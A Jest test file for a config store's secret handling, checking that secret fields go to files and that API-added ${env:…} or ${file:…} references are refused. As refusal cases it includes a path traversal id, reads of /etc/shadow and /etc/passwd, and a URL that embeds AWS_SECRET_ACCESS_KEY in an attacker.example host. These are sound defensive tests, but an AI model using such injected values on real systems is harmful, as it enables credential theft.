import { describe, expect, it } from '@jest/globals';
import { ConfigError } from '@sluice/core';
import { ConfigStoreError } from './config-store';
import { isSecretField, isStoredSecretName, storableEntry, storableRule, type PendingSecret } from './secret-entries';

describe(isSecretField.name, () => {
  it.each([
    [['authentication', 'password'], true],
    [['users', 0, 'password'], true],
    [['ssl', 'passphrase'], true],
    [['tls', 'key'], true],
    [['ssl', 'key'], true],
    [['actions', 0, 'key'], false],
    [['authentication', 'tokenProvider'], false],
    [['authentication', 'username'], false],
  ] as const)('%j → %s', (path, expected) => {
    expect(isSecretField(path)).toBe(expected);
  });
});

describe(storableEntry.name, () => {
  it('stores a plain secret under the secrets directory whatever the id holds', () => {
    const secrets: PendingSecret[] = [];
    const entry = storableEntry('connectors', { id: '../../etc/passwd', password: 'p4ss-word' }, undefined, '/cfg/secrets', secrets);
    expect(secrets).toHaveLength(1);
    const [secret] = secrets as [PendingSecret];
    expect(secret.path).toMatch(/^\/cfg\/secrets\/connectors\.______etc_passwd-[0-9a-f]{12}\.password\.[0-9a-f]{16}$/);
    expect(isStoredSecretName(secret.path.slice('/cfg/secrets/'.length))).toBe(true);
    expect(entry['password']).toBe(`\${file:${secret.path}}`);
    expect(secret.value).toBe('p4ss-word');
  });

  it('keeps a reference the stored entry holds at the same position, in a secret field or any other', () => {
    const secrets: PendingSecret[] = [];
    const stored = { id: 'b', url: 'mqtt://${env:HOST}:1883', password: '${env:B}' };
    expect(storableEntry('sources', { ...stored }, stored, '/s', secrets)).toEqual(stored);
    expect(secrets).toEqual([]);
  });

  const NEW_REFERENCE = 'holds a ${env:…} or ${file:…} reference that the stored entry does not hold at this position: only the config file may add one (through the API it would read the server\'s environment or files into a setting you chose); type the value itself, or edit the config file';

  it.each([
    ['another reference in a secret field', { id: 'b', password: '${env:C}' }, { id: 'b', password: '${env:B}' }, 'password'],
    ['a reference in a new entry (the unsaved connection test too)', { id: 'b', password: '${file:/etc/shadow}' }, undefined, 'password'],
    ['a reference in a setting that is not secret', { id: 'b', url: 'mqtt://${env:AWS_SECRET_ACCESS_KEY}.attacker.example' }, { id: 'b', url: 'mqtt://broker' }, 'url'],
    ['a reference in a list item', { id: 'b', bootstrapHosts: ['${env:K}:9092'] }, { id: 'b', bootstrapHosts: ['k:9092'] }, 'bootstrapHosts.0'],
  ])('refuses %s', (_what, entry, stored, path) => {
    const secrets: PendingSecret[] = [];
    expect(() => storableEntry('sources', entry, stored, '/s', secrets)).toThrow(new ConfigError('sources["b"]', [{ path, message: NEW_REFERENCE }]));
    expect(secrets).toEqual([]);
  });

  it('refuses a stored reference kept while the destination changes', () => {
    const stored = { type: 'mqtt', id: 'b', url: 'mqtt://broker', password: '${env:B}' };
    expect(() => storableEntry('sources', { ...stored, url: 'mqtt://attacker' }, stored, '/s', []))
      .toThrow(new ConfigError('sources["b"]', [{ path: 'password', message: 'the destination changed (url): type the password again' }]));
  });

  describe('in lists', () => {
    const stored = { type: 'mqtt-broker', id: 'edge', users: [{ username: 'alice', password: '${file:/s/alice}' }, { username: 'bob', password: '${file:/s/bob}' }] };

    it('keeps the secret of the stored item with the same username, wherever it now is', () => {
      // the console removed alice: bob is now at position 0, where alice's password was
      for (const bob of [{ username: 'bob', password: '[redacted]' }, { username: 'bob' }]) {
        expect(storableEntry('sources', { type: 'mqtt-broker', id: 'edge', users: [bob] }, stored, '/s', [])).toEqual({ type: 'mqtt-broker', id: 'edge', users: [{ username: 'bob', password: '${file:/s/bob}' }] });
      }
    });

    it('matches by the first of username, id, name, key the item has', () => {
      const old = { type: 'kafka', id: 'k', brokers: [{ name: 'a', token: '${env:A}' }, { name: 'b', token: '${env:B}' }] };
      expect(storableEntry('connectors', { type: 'kafka', id: 'k', brokers: [{ name: 'b', token: '[redacted]' }, { name: 'a' }] }, old, '/s', []))
        .toEqual({ type: 'kafka', id: 'k', brokers: [{ name: 'b', token: '${env:B}' }, { name: 'a', token: '${env:A}' }] });
    });

    it.each([
      ['[redacted] for a user the stored list does not have', [{ username: 'carol', password: '[redacted]' }], /^sources\["edge"\]\.users\.0\.password: "\[redacted\]" stands for the stored secret, but the stored users has no single item with username "carol" .*never by position\); type the value again$/],
      ['a left-out password for a user the stored list does not have', [{ username: 'bob' }, { username: 'bobby' }], /^sources\["edge"\]\.users\.1\.password: a left-out value stands for the stored secret, but the stored users has no single item with username "bobby"/],
      ['[redacted] in an item nothing identifies', [{ password: '[redacted]' }], /^sources\["edge"\]\.users\.0\.password: .*has none of username, id, name, key/],
    ])('refuses %s, naming no secret', (_what, users, message) => {
      const error = (() => { try { storableEntry('sources', { type: 'mqtt-broker', id: 'edge', users }, stored, '/s', []); return undefined; } catch (e) { return e; } })();
      expect(error).toBeInstanceOf(ConfigStoreError);
      expect((error as Error).message).toMatch(message);
      expect((error as Error).message).not.toContain('/s/');
    });

    it('lets a new user leave out a password when no stored user has one', () => {
      expect(storableEntry('sources', { id: 'edge', users: [{ username: 'carol' }] }, { id: 'edge', users: [{ username: 'dave' }] }, '/s', []))
        .toEqual({ id: 'edge', users: [{ username: 'carol' }] });
    });
  });

  it('stores every string under a secret-named key that holds an object, and keeps what it left out or redacted', () => {
    const secrets: PendingSecret[] = [];
    const old = { id: 'k', credentials: { user: '${file:/s/u}', pass: '${file:/s/p}', extra: '${env:X}' } };
    const entry = storableEntry('connectors', { id: 'k', credentials: { user: '[redacted]', pass: 'plain-pass-123', list: ['t1'] } }, old, '/s', secrets);
    expect(JSON.stringify(entry)).not.toContain('plain-pass-123');
    expect(JSON.stringify(entry)).not.toContain('t1');
    expect(secrets.map((s) => s.value).sort()).toEqual(['plain-pass-123', 't1']);
    const credentials = entry['credentials'] as Record<string, unknown>;
    expect(credentials['user']).toBe('${file:/s/u}');
    expect(credentials['extra']).toBe('${env:X}');
    expect(credentials['pass']).toBe(secrets.find((s) => s.value === 'plain-pass-123')?.reference);
    expect(credentials['list']).toEqual([secrets.find((s) => s.value === 't1')?.reference]);
  });

  it('refuses [redacted] when no secret is stored, without naming any value', () => {
    expect(() => storableEntry('connectors', { id: 'k', authentication: { password: '[redacted]' } }, { id: 'k' }, '/s', []))
      .toThrow(new ConfigStoreError('ERR_CONFIG_STORE', 'connectors["k"].authentication.password: "[redacted]" stands for the stored secret, but none is stored; type the value again'));
  });

  it('drops a stored secret whose parent the new entry replaced with a non-object', () => {
    const entry = storableEntry('connectors', { id: 'k', authentication: 'none' }, { id: 'k', authentication: { mechanism: 'plain', password: '${env:P}' } }, '/s', []);
    expect(entry).toEqual({ id: 'k', authentication: 'none' });
  });
});

describe('a kept secret whose destination changed', () => {
  const kafka = { type: 'kafka', id: 'k', bootstrapHosts: ['kafka:9092'], clientId: 'a', authentication: { mechanism: 'plain', username: 'x', password: '${file:/s/p}' } };
  const refusal = (entry: Record<string, unknown>, stored: Record<string, unknown>): unknown => {
    try {
      storableEntry('connectors', entry, stored, '/s', []);
      return undefined;
    } catch (error) {
      return error;
    }
  };

  it('is refused at the secret\'s path, [redacted] or left out, for a Kafka destination', () => {
    for (const password of ['[redacted]', undefined]) {
      const entry = { ...kafka, bootstrapHosts: ['attacker:9092'], authentication: { mechanism: 'plain', username: 'x', ...(password === undefined ? {} : { password }) } };
      const error = refusal(entry, kafka);
      expect(error).toBeInstanceOf(ConfigError);
      expect((error as ConfigError).issues).toEqual([{ path: 'authentication.password', message: 'the destination changed (bootstrapHosts): type the password again' }]);
    }
  });

  it('is kept when only other settings change, or the same destination is written in another order', () => {
    expect(storableEntry('connectors', { ...kafka, clientId: 'b', authentication: { username: 'x', mechanism: 'plain', password: '[redacted]' } }, kafka, '/s', []))
      .toEqual({ ...kafka, clientId: 'b', authentication: { username: 'x', mechanism: 'plain', password: '${file:/s/p}' } });
  });

  it.each([
    ['mqtt', { url: 'mqtt://broker:1883', username: 'u', password: '${env:P}' }, { url: 'mqtts://attacker:8883' }, 'url'],
    ['mqtt', { url: 'mqtts://broker:8883', username: 'u', password: '${env:P}' }, { tls: { verify: false } }, 'tls'],
    ['mqtt', { url: 'mqtt://broker:1883', username: 'u', password: '${env:P}' }, { username: 'v' }, 'username'],
    ['mqtt-broker', { port: 1883, users: [{ username: 'u', password: '${env:P}' }] }, { host: '0.0.0.0' }, 'host'],
    ['kafka', { bootstrapHosts: ['k:9092'], password: '${env:P}' }, { type: 'memory' }, 'type'],
    ['a plugin\'s type (any setting other than a secret)', { endpoint: 'https://hook', password: '${env:P}' }, { timeoutMs: 5 }, 'timeoutMs'],
  ])('%s: is refused when %j changes', (type, stored, change, field) => {
    const entry = { type, id: 'e', ...stored, ...change };
    const withPassword = JSON.parse(JSON.stringify(entry).split('${env:P}').join('[redacted]')) as Record<string, unknown>;
    const error = refusal(withPassword, { type, id: 'e', ...stored });
    expect((error as ConfigError).issues?.[0]?.message).toBe(`the destination changed (${field}): type the password again`);
  });

  it('lets a plugin\'s entry keep its secret when nothing but the secret is sent', () => {
    const stored = { type: 'webhook', id: 'w', endpoint: 'https://hook', token: '${env:T}' };
    expect(storableEntry('connectors', { type: 'webhook', id: 'w', endpoint: 'https://hook' }, stored, '/s', [])).toEqual(stored);
  });
});

describe(storableRule.name, () => {
  const stored = { id: 'r', sql: 'SELECT * FROM "a"', actions: [{ connector: 'k', topic: 't', headers: { auth: 'Bearer ${env:TOKEN}' } }] };

  it('keeps the stored text where the rule holds [redacted] and the stored rule a secret reference', () => {
    const rule = { id: 'r', sql: 'SELECT 1 FROM "b"', actions: [{ connector: 'k', topic: 't2', headers: { auth: '[redacted]' } }] };
    expect(storableRule(rule, stored)).toEqual({ ...rule, actions: [{ connector: 'k', topic: 't2', headers: { auth: 'Bearer ${env:TOKEN}' } }] });
  });

  it.each([
    ['at a position whose stored text holds no reference', { id: 'r', sql: 'SELECT 1', actions: [{ connector: 'k', topic: '[redacted]' }] }, stored, 'rules["r"].actions[0].topic'],
    ['in a new rule', { id: 'r', sql: 'SELECT 1', actions: [{ connector: 'k', value: '[redacted]' }] }, undefined, 'rules["r"].actions[0].value'],
  ])('refuses [redacted] %s', (_what, rule, old, where) => {
    expect(() => storableRule(rule, old)).toThrow(new ConfigStoreError('ERR_CONFIG_STORE', `${where}: holds "[redacted]", which stands for a secret reference of the config file, but the stored rule has none at this position; give the full text, or change this field in the config file`));
  });

  it('keeps a reference written back unchanged at its position', () => {
    expect(storableRule({ ...stored, sql: 'SELECT 2 FROM "a"' }, stored)).toEqual({ ...stored, sql: 'SELECT 2 FROM "a"' });
  });

  it.each([
    ['in a new rule', { id: 'r', sql: 'SELECT 1', actions: [{ connector: 'k', value: '${env:DB_PASSWORD}' }] }, undefined, 'actions[0].value'],
    ['where the stored rule has another text', { id: 'r', sql: 'SELECT 1', actions: [{ connector: 'k', topic: '${file:/etc/passwd}' }] }, stored, 'actions[0].topic'],
  ])('refuses a new reference %s (its value would be read back from the action)', (_what, rule, old, path) => {
    const message = 'holds a ${env:…} or ${file:…} reference that the stored rule does not hold at this position: only the config file may add one; give the text itself, or edit the config file';
    expect(() => storableRule(rule, old)).toThrow(new ConfigError('rules["r"]', [{ path, message }]));
  });
});
